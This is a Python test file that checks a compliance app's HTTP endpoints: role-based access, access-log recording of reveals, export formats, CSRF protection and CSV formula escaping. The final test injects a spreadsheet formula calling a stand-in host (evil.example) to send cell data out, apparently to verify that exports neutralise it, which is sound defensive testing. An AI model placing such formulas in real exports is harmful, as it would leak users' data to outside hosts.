"""The compliance endpoints and page over real HTTP: roles, reveal recorded, export, verify."""

from __future__ import annotations

import csv
import io
import json
from uuid import uuid4

import httpx
import pytest

from app.export import FORMULA_STARTS, spreadsheet_safe
from domain.vocabulary import Role
from infra.crypto import Keyring
from infra.eventstore import EventStore
from tests.api.conftest import Registered
from tests.api.test_pages import csrf_of, sign_in
from tests.compliance import build
from tests.compliance.build import NAME, REASONS, shared_path

OTHERS = [Role.COORDINATOR, Role.AGENCY_WORKER, Role.ADVISOR, Role.RECIPIENT]


@pytest.mark.parametrize("role", OTHERS)
async def test_only_compliance_officers_see_histories_exports_and_verify(
    client: httpx.AsyncClient, hub: Registered, store: EventStore, keyring: Keyring, role: Role
) -> None:
    built = await shared_path(store, keyring)
    headers = hub.people[role].headers
    rid = built.request_id
    for response in (
        await client.get(f"/api/requests/{rid}/history?reveal=true", headers=headers),
        await client.get(f"/api/requests/{rid}/export?format=json&reveal=true", headers=headers),
        await client.post("/api/audit/verify", headers=headers),
    ):
        assert response.status_code == 403, response.text
        assert response.headers["content-type"].startswith("application/problem+json")
    unauthenticated = await client.get(f"/api/requests/{rid}/history")
    assert unauthenticated.status_code == 401
    history = await client.get(
        f"/api/requests/{rid}/history", headers=hub.people[Role.COMPLIANCE_OFFICER].headers
    )
    assert history.json()["access_log"] == []  # the refused views recorded nothing


async def test_history_is_in_order_with_actors_and_the_verification(
    client: httpx.AsyncClient, hub: Registered, store: EventStore, keyring: Keyring
) -> None:
    built = await shared_path(store, keyring)
    officer = hub.people[Role.COMPLIANCE_OFFICER]
    response = await client.get(
        f"/api/requests/{built.request_id}/history", headers=officer.headers
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["verification"]["ok"] is True
    positions = [e["position"] for e in body["events"]]
    assert positions == sorted(positions) and len(positions) == len(built.events)
    assert body["events"][0]["actor_role"] == "coordinator"
    assert body["agencies"][0]["decision_record"]["reasons"] == "[sealed]"
    assert body["access_log"] == [] and NAME not in response.text


async def test_a_reveal_is_recorded_in_the_access_log(
    client: httpx.AsyncClient, hub: Registered, store: EventStore, keyring: Keyring
) -> None:
    built = await shared_path(store, keyring)
    officer = hub.people[Role.COMPLIANCE_OFFICER]
    rid = built.request_id
    shown = await client.get(f"/api/requests/{rid}/history?reveal=true", headers=officer.headers)
    assert shown.status_code == 200, shown.text
    body = shown.json()
    assert body["agencies"][0]["decision_record"]["reasons"] == REASONS
    assert body["request_details"]["subject_details"]["name"] == NAME
    (view,) = body["access_log"]
    assert view["viewer_id"] == str(officer.user_id) and view["what"] == "history"
    assert view["viewer_role"] == "compliance_officer"
    exported = await client.get(
        f"/api/requests/{rid}/export?format=csv&reveal=true", headers=officer.headers
    )
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["value"] for r in rows if r["section"] == "access"] == ["history", "export"]
    recorded = await store.read_stream(f"access:{rid}")
    assert [r.metadata.correlation_id for r in recorded] == [rid, rid]
    verified = await client.post("/api/audit/verify", headers=officer.headers)
    assert verified.status_code == 200 and verified.json()["ok"] is True


async def test_export_formats_and_unknown_requests(
    client: httpx.AsyncClient, hub: Registered, store: EventStore, keyring: Keyring
) -> None:
    built = await shared_path(store, keyring)
    officer = hub.people[Role.COMPLIANCE_OFFICER]
    as_json = await client.get(
        f"/api/requests/{built.request_id}/export?format=json", headers=officer.headers
    )
    assert json.loads(as_json.text)["agencies"][0]["decision_record"]["outcome"] == "share"
    page = await client.get(
        f"/api/requests/{built.request_id}/export?format=html", headers=officer.headers
    )
    assert page.headers["content-type"].startswith("text/html") and "Timeline" in page.text
    missing = await client.get(f"/api/requests/{uuid4()}/history", headers=officer.headers)
    assert missing.status_code == 404
    bad = await client.get(
        f"/api/requests/{built.request_id}/export?format=xml", headers=officer.headers
    )
    assert bad.status_code == 422


async def test_the_history_page_is_for_compliance_officers_and_records_reveals(
    browser: httpx.AsyncClient, hub: Registered, store: EventStore, keyring: Keyring
) -> None:
    built = await shared_path(store, keyring)
    await sign_in(browser, hub.people[Role.COORDINATOR].token)
    refused = await browser.get(
        f"/requests/{built.request_id}/history", headers={"accept": "text/html"}
    )
    assert refused.status_code == 403
    await browser.post("/signout", data={"csrf_token": ""})
    browser.cookies.clear()
    await sign_in(browser, hub.people[Role.COMPLIANCE_OFFICER].token)
    page = await browser.get(f"/requests/{built.request_id}/history")
    assert page.status_code == 200, page.text
    assert "Verified" in page.text and "decided to share" in page.text and NAME not in page.text
    # A GET cannot reveal (a link or image elsewhere would record a view in the officer's
    # name), nor a POST without the page's CSRF token; neither records anything.
    linked = await browser.get(f"/requests/{built.request_id}/history?reveal=true")
    assert NAME not in linked.text
    forged = await browser.post(f"/requests/{built.request_id}/history", data={})
    assert forged.status_code == 403 and NAME not in forged.text
    assert await store.read_stream(f"access:{built.request_id}") == []
    shown = await browser.post(
        f"/requests/{built.request_id}/history", data={"csrf_token": csrf_of(page)}
    )
    assert NAME in shown.text and "this view has been recorded" in shown.text
    assert "compliance officer" in shown.text.split("Who has viewed")[1]


async def test_csv_exports_quote_cells_a_spreadsheet_would_run(
    client: httpx.AsyncClient,
    hub: Registered,
    store: EventStore,
    keyring: Keyring,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    formula = '=HYPERLINK("http://evil.example/"&A1,"open")'
    monkeypatch.setattr(build, "REASONS", formula)
    built = await shared_path(store, keyring)
    officer = hub.people[Role.COMPLIANCE_OFFICER]
    response = await client.get(
        f"/api/requests/{built.request_id}/export?format=csv&reveal=true",
        headers=officer.headers,
    )
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert "'" + formula in " ".join(cells)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    for start in FORMULA_STARTS:
        assert spreadsheet_safe(start + "1") == "'" + start + "1"
    assert spreadsheet_safe("plain") == "plain" and spreadsheet_safe(3) == 3
